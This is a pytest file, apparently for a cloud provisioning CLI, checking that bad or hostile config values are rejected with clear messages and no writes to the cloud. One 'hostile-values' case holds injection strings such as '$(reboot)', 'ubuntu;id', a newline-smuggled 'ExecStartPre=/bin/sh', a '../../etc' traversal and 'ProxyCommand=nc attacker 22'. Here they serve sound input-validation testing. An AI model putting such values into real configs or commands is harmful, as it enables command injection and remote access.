"""Bad input, as an operator meets it: `sails-bootstrap provision --config FILE` with a malformed
config or a cloud that lacks what it names. Each case ends with exit code 1 or 2, a message
naming what to fix, no traceback, and not one write at the cloud."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import yaml

pytestmark = [pytest.mark.sandbox]

ROOT = Path(__file__).resolve().parents[2]


def writes_of(fault_control: Any, environment: str) -> int:
    """Writes at the fault proxy by this environment's runs (the product's User-Agent is
    ``sails-bootstrap/ENV``): others using the shared sandbox at the same time do not count."""
    return int(fault_control.writes(user_agent=f"sails-bootstrap/{environment}"))


def reached_cloud(fault_control: Any, environment: str) -> bool:
    return f"sails-bootstrap/{environment}" in fault_control.counts()["agents"]


#: (id, config text or a dict merged into a valid config, what the message must say)
CASES: list[tuple[str, Any, str | tuple[str, ...]]] = [
    ("not-yaml", "environment: [unclosed\n", "not valid YAML"),
    ("unknown-section", {"servr": {"flavor": "x"}}, "servr"),
    ("wrong-type", {"volume": {"size_gb": "big"}}, "volume.size_gb"),
    (
        "bad-cidr",
        {"server": {"ingress": [{"protocol": "tcp", "port": 22, "cidr": "1.2.3.4/40"}]}},
        "cidr",
    ),
    ("bad-port", {"prefect": {"port": 70000}}, "prefect.port"),
    ("relative-mount", {"volume": {"mount_point": "pspace"}}, "volume.mount_point"),
    (
        "hostile-values",
        {
            "volume": {"owner": "ubuntu\nExecStartPre=/bin/sh"},
            "prefect": {"venv": "/mnt/pspace/$(reboot)", "home": "/mnt/pspace/../../etc"},
            "server": {"user": "ubuntu;id"},
            "arc": {"options": ["reconnect", "ProxyCommand=nc attacker 22"]},
        },
        ("volume.owner", "prefect.venv", "prefect.home", "server.user", "arc.options"),
    ),
    ("no-such-cloud", {"cloud": {"cloud": "arbutus-typo"}}, "arbutus-typo"),
    ("no-such-credentials-block", {"cloud": {"credentials_block": "nope-cloud"}}, "nope-cloud"),
    (
        "missing-image",
        {"server": {"image": "Ubuntu-99.04"}},
        "image 'Ubuntu-99.04' not found; fix server.image (similar: Ubuntu-24.04-Noble-x64-2024-06",
    ),
    ("missing-flavor", {"server": {"flavor": "c9-huge"}}, "flavor 'c9-huge' not found"),
    ("missing-network", {"server": {"network": "no-such-net"}}, "no-such-net"),
    ("missing-external-network", {"server": {"floating_network": "no-ext"}}, "no-ext"),
    ("over-quota", {"volume": {"size_gb": 500}}, "quota"),
]


@pytest.mark.parametrize(("data", "expect"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_bad_input_is_named_and_writes_nothing(
    data: Any,
    expect: str | tuple[str, ...],
    make_config: Any,
    prefect_server: Any,
    sandbox_env: Any,
    fault_control: Any,
    tmp_path: Path,
) -> None:
    from prefect.utilities.collections import deep_merge

    from core.config import dump_config

    if isinstance(data, str):
        text = data
    else:
        base = yaml.safe_load(dump_config(make_config("t-input")))
        text = yaml.safe_dump(deep_merge(base, data))
    path = tmp_path / "config.yaml"
    path.write_text(text)
    fault_control.reset()
    proc = subprocess.run(
        [sys.executable, "-m", "sails_bootstrap.cli", "provision", "--config", str(path)],
        cwd=ROOT,
        env={**os.environ, **prefect_server.env()},
        capture_output=True,
        text=True,
        timeout=180,
    )
    said = proc.stdout + proc.stderr
    assert proc.returncode in (1, 2), said
    for part in (expect,) if isinstance(expect, str) else expect:
        assert part in said, said
    assert "Traceback" not in said, said
    assert writes_of(fault_control, "t-input") == 0
    if isinstance(expect, str) and expect.startswith(
        ("image", "flavor", "quota")
    ):  # preflight read the cloud, wrote nothing
        assert reached_cloud(fault_control, "t-input")


def test_unreachable_cloud_is_named_after_retries(
    prefect_server: Any, sandbox_env: Any, fault_control: Any, tmp_path: Path
) -> None:
    clouds = tmp_path / "clouds.yaml"
    clouds.write_text(
        yaml.safe_dump(
            {
                "clouds": {
                    "unreachable": {
                        "auth": {
                            "auth_url": "http://127.0.0.1:9/v3",
                            "username": "u",
                            "password": "p",
                            "project_name": "p",
                            "user_domain_name": "Default",
                            "project_domain_name": "Default",
                        },
                        "identity_api_version": 3,
                    }
                }
            }
        )
    )
    path = tmp_path / "config.yaml"
    path.write_text("environment: t-unreachable\ncloud: {cloud: unreachable}\n")
    fault_control.reset()
    proc = subprocess.run(
        [sys.executable, "-m", "sails_bootstrap.cli", "plan", "--config", str(path)],
        cwd=ROOT,
        env={**os.environ, **prefect_server.env(), "OS_CLIENT_CONFIG_FILE": str(clouds)},
        capture_output=True,
        text=True,
        timeout=300,
    )
    said = proc.stdout + proc.stderr
    last = [line for line in said.splitlines() if line.startswith("error:")]
    assert proc.returncode == 1, said
    assert last and "still failing after retries" in last[-1] and "127.0.0.1:9" in last[-1], said
    assert writes_of(fault_control, "t-unreachable") == 0


def run_cli(path: Path, env: dict[str, str]) -> tuple[int, str]:
    proc = subprocess.run(
        [sys.executable, "-m", "sails_bootstrap.cli", "provision", "--config", str(path)],
        cwd=ROOT,
        env={**os.environ, **env},
        capture_output=True,
        text=True,
        timeout=300,
    )
    return proc.returncode, proc.stdout + proc.stderr


def test_password_entry_without_password_names_the_fix(
    make_config: Any,
    prefect_server: Any,
    sandbox_env: Any,
    fault_control: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The password clouds.yaml the dashboard offers holds no password."""
    from core.config import dump_config

    data = yaml.safe_load(Path(os.environ["OS_CLIENT_CONFIG_FILE"]).read_text())
    entry = next(c for c in data["clouds"].values() if c.get("auth_type") == "password")
    entry["auth"].pop("password")
    clouds = tmp_path / "clouds.yaml"
    clouds.write_text(yaml.safe_dump({"clouds": {"dashboard": entry}}))
    path = tmp_path / "config.yaml"
    path.write_text(dump_config(make_config("t-nopass", cloud={"cloud": "dashboard"})))
    env = {**prefect_server.env(), "OS_CLIENT_CONFIG_FILE": str(clouds)}
    monkeypatch.delenv("OS_PASSWORD", raising=False)
    fault_control.reset()
    code, said = run_cli(path, env)
    assert code == 1, said
    assert "Traceback" not in said, said
    for fix in ("OS_PASSWORD", "application credential", "arbutus-canfar"):
        assert fix in said, said
    assert not reached_cloud(fault_control, "t-nopass")  # said before any request


def test_two_images_with_one_name_are_named(
    make_config: Any,
    prefect_server: Any,
    sandbox_env: Any,
    fault_control: Any,
    user_conn: Any,
    tmp_path: Path,
) -> None:
    import secrets

    from core.config import dump_config

    name = f"Ubuntu-24.04-Noble-x64-t{secrets.token_hex(3)}"
    images = [
        user_conn.image.create_image(
            name=name, disk_format="raw", container_format="bare", visibility="private"
        )
        for _ in range(2)
    ]
    try:
        path = tmp_path / "config.yaml"
        path.write_text(dump_config(make_config("t-dupname", server={"image": name})))
        fault_control.reset()
        code, said = run_cli(path, prefect_server.env())
    finally:
        for image in images:
            user_conn.image.delete_image(image, ignore_missing=True)
    assert code == 1, said
    assert "Traceback" not in said, said
    assert f"2 images are named {name!r}" in said and "Set server.image to the id" in said, said
    assert all(image.id in said for image in images), said
    assert reached_cloud(fault_control, "t-dupname")
    assert writes_of(fault_control, "t-dupname") == 0
